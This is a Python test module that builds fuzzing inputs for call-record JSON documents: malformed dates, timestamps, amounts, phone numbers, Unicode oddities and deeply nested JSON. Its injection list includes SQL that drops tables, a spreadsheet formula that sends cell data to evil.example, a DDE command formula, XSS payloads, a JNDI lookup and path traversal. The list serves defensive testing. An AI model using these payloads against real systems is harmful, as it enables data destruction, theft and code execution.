"""Values of the right JSON type that are odd all the same: dates, times, amounts, numbers, texts that attack."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

from tests.corpus.documents import Field, Literal, Step, documented, fields, is_struct

LONG = 5000

INJECTIONS: dict[str, str] = {
    "SQL that ends a literal": "'; DROP TABLE airudder.pushes CASCADE; --",
    "SQL that ends an array": "\"}', '{}'); DELETE FROM airudder.calls; --",
    "SQL that is dollar-quoted": "$$; DROP SCHEMA airudder CASCADE; $$",
    "SQL behind a backslash": "\\'; SELECT pg_sleep(60); --",
    "placeholders": "%s %b %(limit)s $1 :name ? {} {0} {0.__class__}",
    "formula that links": '=HYPERLINK("http://evil.example/?x="&A1,"Budi")',
    "formula that runs": "+cmd|' /C calc'!A0",
    "script": "<script>alert(document.cookie)</script>",
    "attribute of HTML": "\"><img src=x onerror='alert(1)'>",
    "look-up": "${jndi:ldap://evil.example/a} {{7*7}} `id` $(id)",
    "path": "../../../../etc/passwd\\..\\..\\boot.ini",
    "forged line of a log": "Budi\r\nERROR workers: everything is lost",
    "escapes of a terminal": "\x1b[2J\x1b[31mBudi\x1b]0;title\x07 \x9b2J",
}
"""Text that does harm where it is taken for more than text; stored as it is"""

HOSTILE_TEXTS: dict[str, str] = {
    **INJECTIONS,
    "other ends of a line": "a\x0bb\x0cc\x1cd\x85e\u2028f\u2029g",
    "right to left": "\u202eiduB\u202c \u200b\u200d\ufeff\u2066",
    "nul": "Bu\0di",
    "lone surrogates": "\ud800Budi\udfff",
    "surrogates the wrong way round": "\ude4f\ud83d",
    "noncharacters": "\ufffe\uffff\U0010ffff",
    "every control character": "".join(map(chr, range(1, 32))) + "\x7f",
    "JSON in JSON": '{"call_id": "other", "a": "\\u0000"}',
    "null, the word": "null",
    "space of every kind": " \t\n\r\x0b\x0c\x1f\x85\xa0\u1680\u2003\u2028\u202f\u3000",
    "combining": "e" + "\u0301" * 300,
    "long": "é" * LONG,
}

DATES = [
    *("2021-02-30", "2021-02-29", "2020-02-29", "2021-04-31", "2021-00-10", "2021-13-01", "2021-01-00"),
    *("0000-01-01", "0001-01-01", "9999-12-31", "10000-01-01", "-0001-01-01", "+2021-01-01", "99999999-01-01"),
    *("2021-1-2", "21-01-02", "20210102", "2021/01/02", "02.01.2021", "01-02-2021", "2021-W01-1", "2021-001"),
    *("2021-01-02T00:00:00Z", "2021-01-02 00:00:00", " 2021-01-02 ", "2021-01-02\0", "２０２１-01-02", "٢٠٢١-٠١-٠٢"),
    *("1609545600", "1609545600000", "today", "infinity", "-infinity", "epoch", "J2451187", "-", "--", "0"),
    *("2021-01-0a", "2021-01", "2021", "2 February 2021", "0001-01-01 BC", "0000-00-00", "1970-01-01", "1900-01-01"),
    *("2021-01-02T00:00:00.000Z", "2021-01-02T17:00:00Z", "2021-01-02T00:00:00+07:00"),
]
MOMENTS = [
    *("2021-02-30T00:00:00Z", "2021-02-28T24:00:00Z", "2021-02-28T23:59:60Z", "2021-02-28T25:00:00Z"),
    *("0000-01-01T00:00:00Z", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59.999999Z", "10000-01-01T00:00:00Z"),
    *(
        "0001-01-01T00:00:00+14:00",
        "9999-12-31T23:59:59-14:00",
        "2021-01-02T03:04:05+23:59",
        "2021-01-02T03:04:05+24:00",
    ),
    *("2021-01-02T03:04:05+07:00:30.5", "2021-01-02T03:04:05-00:00", "2021-01-02T03:04:05+7", "2021-01-02T03:04:05 Z"),
    *("2021-01-02T03:04:05,678Z", "2021-01-02T03:04:05.123456789Z", "2021-01-02T03:04:05.1234567", "2021-01-02T03:04"),
    *("2021-01-02T03", "2021-01-02", "2021-W01-6T03:04:05Z", "20210102T030405Z", "2021-01-02x03:04:05Z"),
    *("2021-01-02 03:04:05 +0700", "2021-01-02T03:04:05 Asia/Jakarta", "2021-01-02T03:04:05WIB", "01/02/2021 03:04"),
    *("1609556645", "1609556645000", "1609556645.5", "now", "infinity", "-infinity", "epoch", "T", "-", "----", "Z"),
    *(
        "２０２１-01-02T03:04:05Z",
        "2021-01-02T03:04:05\u2212" + "07:00",
        "Sat, 02 Jan 2021 03:04:05 GMT",
        "2021-01-02T" + "0" * LONG,
    ),
    *("2021-01-02T03:04:05+00:00Z", "2021-01-02T03:04:05+07:00Z", "Jan 2, 2021, 3:04:05 PM", "2021-01-02 13:04:05 PM"),
    *("2000-01-01T00:00:00-05:00", "2079-06-06T23:59:00Z", "2099-12-31T23:59:59Z", "2021-01-02T03:04:05[UTC]"),
    *("1970-01-01T00:00:00Z", "1970-01-01T07:00:00+07:00", "0000-00-00 00:00:00", "1900-01-01T00:00:00", "0", "-1"),
    *("2021-01-02 03:04:05 UTC", "2021-01-02 03:04:05.5 +0000 UTC m=+0.5", "2021-01-02T03:04:05+07:00[Asia/Jakarta]"),
    *("Sat Jan  2 03:04:05 UTC 2021", "Sat Jan 02 2021 03:04:05 GMT+0700 (WIB)", "Sat Jan  2 03:04:05 -0330 2021"),
    *(
        "2021-01-02 03:04:05 +0700 +07",
        "2021-01-02 03:04:05 EST",
        "20210102030405",
        "1609556645123456",
        "1609556645.25",
    ),
]
OFFSETS = [
    *("00:00:00", "23:59:59", "99:59:59", "999:59:59", "1000:00:00", "9999999999:00:00", "00:60:00", "00:00:60"),
    *("-00:00:09", "+00:00:09", "00:09", "9", "9.5", "1:2:3", "00:00:09.5", "00:00:09.123456", "00:00:09.1234567"),
    *("00:00:09,5", "00:00:09.", " 00:00:09 ", "00:00:0９", "٠٠:٠٠:٠٩", "1h2m3s", "PT9S", "1 day", "00-00-09", "::"),
    *("a:b:c", "00:00:09Z", "2021-01-02T00:00:09Z", "infinity", "00:00:09:00", "0" * LONG, "00:00:" + "0" * LONG),
]
AMOUNTS = [
    *("1.234,56", "1,234.56", "1 234.56", "1'234.56", "1_234", "1.234.567", "Rp 20.000", "20000 IDR", "$5", "5%"),
    *("-20310.23", "-0", "-0.00", "--5", "- 5", "5-", "(5)", "+5", ".5", "5.", ".", "-", "1e5", "1E-5", "1e999999"),
    *("-1e999999", "1e-999999", "1e99999999999999999999", "NaN", "-NaN", "sNaN", "Infinity", "-Infinity", "inf"),
    *("0x10", "1/3", "½", "١٢٣", "１２", "²", "000000123.4500", "0.0000000000000000000001", " 17 ", "1\0", "null"),
    *("9" * 64, "9" * 65, "-" + "9" * 63, "0." + "1" * 62, "9" * LONG, "0." + "0" * LONG + "1"),
]
WHOLE_NUMBERS: list[Any] = [
    *(0, -1, 2**31 - 1, 2**31, -(2**31), -(2**31) - 1, 2**53 + 1, 2**63 - 1, 2**63, -(2**63) - 1, 2**64, 10**30),
    *map(Literal, ("1e400", "-1e400", "1e999999999999", "1.0", "1.5", "1e2", "1E+2", "1e-2", "-0", "-0.0", "5e-324")),
    *map(Literal, ("9" * 1001, "9" * 4300, "9" * 4301, "9" * LONG, "-" + "9" * LONG, "0." + "9" * LONG)),
    *("1", " 1 ", "-1", "1.0", "1e3", "0x10", "0b1", "1_000", "٣", "²", "9" * 19, "9" * 20, "9" * LONG, "--5", "twice"),
]
NUMBERS_ANYWHERE = [
    *("1e400", "-1e400", "1e-400", "1e999999", "1e-999999", "1e99999999999999999999", "-1e-99999999999999999999"),
    *("1.7976931348623157e308", "1.7976931348623159e308", "5e-324", "2e-324", "-0", "-0.0", "0e999999", "1E5", "1e+5"),
    *("9007199254740993", "9223372036854775808", "-9223372036854775809", "18446744073709551616", "1" + "0" * 400),
    *("12345678901234567.89", "0.1000000000000000055511151231257827", "100000000000000000000.5", "1.10", "20000.00"),
    *("9" * 1000, "9" * 1001, "9" * 4300, "9" * 4301, "9" * LONG, "-" + "9" * LONG, "0." + "9" * LONG),
    *("1" + "0" * LONG + ".5", "0." + "0" * LONG + "1", "9" * LONG + "e-" + "9" * 3),
]
NUMBERS = [
    # NNN makes each a person of their own.
    *("+6281234567NNN", "6281234567NNN", "081234567NNN", "81234567NNN", "006281234567NNN", "01162812345NNN"),
    *("+62 812-3456-7NNN", "+62 (812) 3456 7NNN", "(+62) 81234567NNN", "+62.812.3456.7NNN", "+62/812/34567NNN"),
    *("+6208123456NNN", "+62 0812 3456 NNN", "+62(0)81234567NNN", " +6281234567NNN ", "+ 62 81234567NNN"),
    *("++6281234567NNN", "+0812345NNN", "+62+81234567NNN", "tel:+6281234567NNN", "sip:+6281234567NNN@example.com"),
    *("81234567NNN;phone-context=+62", "tel:81234567NNN;phone-context=example.com", "+6281234567NNN;ext=5"),
    *("+6281234567NNN x5", "+6281234567NNN ext. 12345678901", "+6281234567NNN,,1#", "+6281234567NNN/+6281234568NNN"),
    *("+62٨١٢٣٤٥٦٧NNN", "＋６２８１２３４５６７NNN", "+62\u200b81234567NNN", "+62\u00a0812\u00a034567NNN"),
    *("+1-800-FLOWERSNNN", "+1 415 555 2NNN", "+39 06 12345NNN", "+86 138 0013 8NNN", "+7 (495) 123-4NNN"),
    *("+54 9 11 2345-6NNN", "+52 1 55 1234 5NNN", "+55 15 11 2345-6NNN", "+999 12345NNN", "+800 1234 5NNN"),
    *("NNN", "-NNN", "+NNN", "6.281234567NNN", "6.281234567e+12NNN", "6281234567NNN.0", "0x628123NNN", "unknown NNN"),
    *("call +6281234567NNN now", "=+6281234567NNN", "@NNN", "''NNN", "<b>+6281234567NNN</b>", "*NNN#", "(((((((NNN"),
    *("9" * 15 + "NNN", "+" + "9" * 61 + "NNN", "+" + "9" * 62 + "NNN", "6" * LONG + "NNN", "+62" + " " * LONG + "NNN"),
    *("6.28123E+12", "6,28123E+12", "unknown", "N/A", "0000000000", "081234567NNN / 081234568NNN", "'6281234567NNN"),
    *(
        '="6281234567NNN"',
        "6,281,234,567,NNN",
        "6.281234567NNNE+12",
        "5215512345NNN",
        "551187654NNN",
        "62\u2011812345NNN",
    ),
    *("-" * 60 + "NNN", "1 " * 30 + "NNN", "+62 " + "(8) " * 14 + "NNN"),
]

_BY_FIELD: dict[tuple[Step, ...], list[Any]] = {
    ("callee", "borrowed_date"): DATES,
    ("callee", "due_date"): DATES,
    ("callee", "borrowed_amount"): AMOUNTS,
    ("callee", "total_owing_amount"): [*AMOUNTS, *map(Literal, NUMBERS_ANYWHERE)],
    ("callee", "callee_number"): [form.replace("NNN", f"{place:03}") for place, form in enumerate(NUMBERS, 100)],
    ("call", "call_start_time"): MOMENTS,
    ("call", "call_end_time"): MOMENTS,
    ("call", "call_times"): WHOLE_NUMBERS,
    ("call", "asr_result", 0, "time"): OFFSETS,
    ("call", "intention"): [*map(Literal, NUMBERS_ANYWHERE), *HOSTILE_TEXTS.values()],
    ("workflow_name",): [*map(Literal, NUMBERS_ANYWHERE)],
    ("custom_attribute", "a"): [*map(Literal, NUMBERS_ANYWHERE), *HOSTILE_TEXTS.values()],
    ("callee", "extend", "variables", "test"): [*HOSTILE_TEXTS.values()],
}


def edits() -> Iterator[tuple[str, tuple[Step, ...], Any]]:
    """Name, place in the document, and the value to put there."""
    for steps, odd_values in _BY_FIELD.items():
        for place, value in enumerate(odd_values):
            yield f"{Field(steps, None).path}, odd value {place}", steps, value
    for field in fields():
        if field.type is str:
            for name, text in HOSTILE_TEXTS.items():
                yield f"{field.path}: {name}", field.steps, text
        elif field.type is not int:
            for name, text in JSON_IN_STRINGS.items():
                yield f"{field.path} is a string of JSON: {name}", field.steps, text


JSON_IN_STRINGS: dict[str, str] = {
    "object": '{"x": [1, {"y": null}], "call_id": "other", "callee_number": "+6281100000000"}',
    "with what cannot be stored": '{"slots": "a\\u0000", "y": "\\ud800", "x": 1e400, "text\\u0000": "\\u0000"}',
    "array": '[{"time": "00:00:09", "text": "halo\\u0000", "Question": 1}, 7, null, "{\\"text\\": \\"x\\"}"]',
    "encoded twice": json.dumps('{"x": "y", "text": "halo"}'),
    "encoded three times": json.dumps(json.dumps('{"x": "y"}')),
    "array encoded twice": json.dumps('[{"text": "halo"}]'),
    "no JSON": "{x: 1}",
    "not JSON's numbers": '{"x": NaN}',
    "too deep": '{"x":' * 150 + "1" + "}" * 150,
    "deeper than anybody reads": "[" * 5000 + "]" * 5000,
}
"""For a field that should be an object or array"""

ANY_JSON: dict[str, Any] = {
    "null": None,
    "true": True,
    "false": False,
    "zero": 0,
    "number": 7,
    "negative": -1,
    "fraction": 1.5,
    "beyond 64 bits": 2**63,
    "beyond a double": Literal("1e400"),
    "empty text": "",
    "text": "some text",
    "digits": "12",
    "empty array": [],
    "array of numbers": [1, 2],
    "array of nulls": [None, None],
    "array of arrays": [[], [[]]],
    "array of objects": [{"x": 1}, {}],
    "empty object": {},
    "object": {"x": [1, {"y": None}]},
}


def wrong_types() -> Iterator[tuple[str, tuple[Step, ...], Any]]:
    """Every field of the structs with a value of every JSON type; one that is added to the structs comes by itself."""
    for field in fields():
        for name, value in ANY_JSON.items():
            yield f"{field.path} is {name}", field.steps, value


def missing() -> Iterator[tuple[str, dict[str, Any]]]:
    """Every field left out, and every object reduced to one field."""
    for number, field in enumerate(fields()):
        document = documented(900_000 + number)
        inner: Any = document
        for step in field.steps[:-1]:
            inner = inner[step]
        del inner[field.steps[-1]]
        yield f"{field.path} is missing", document
    for number, field in enumerate(one for one in fields() if not is_struct(one.type) and 0 not in one.steps):
        alone: Any = documented(901_000 + number)
        for step in field.steps:
            alone = alone[step]
        for step in reversed(field.steps):
            alone = {step: alone}
        yield f"{field.path} is alone", alone
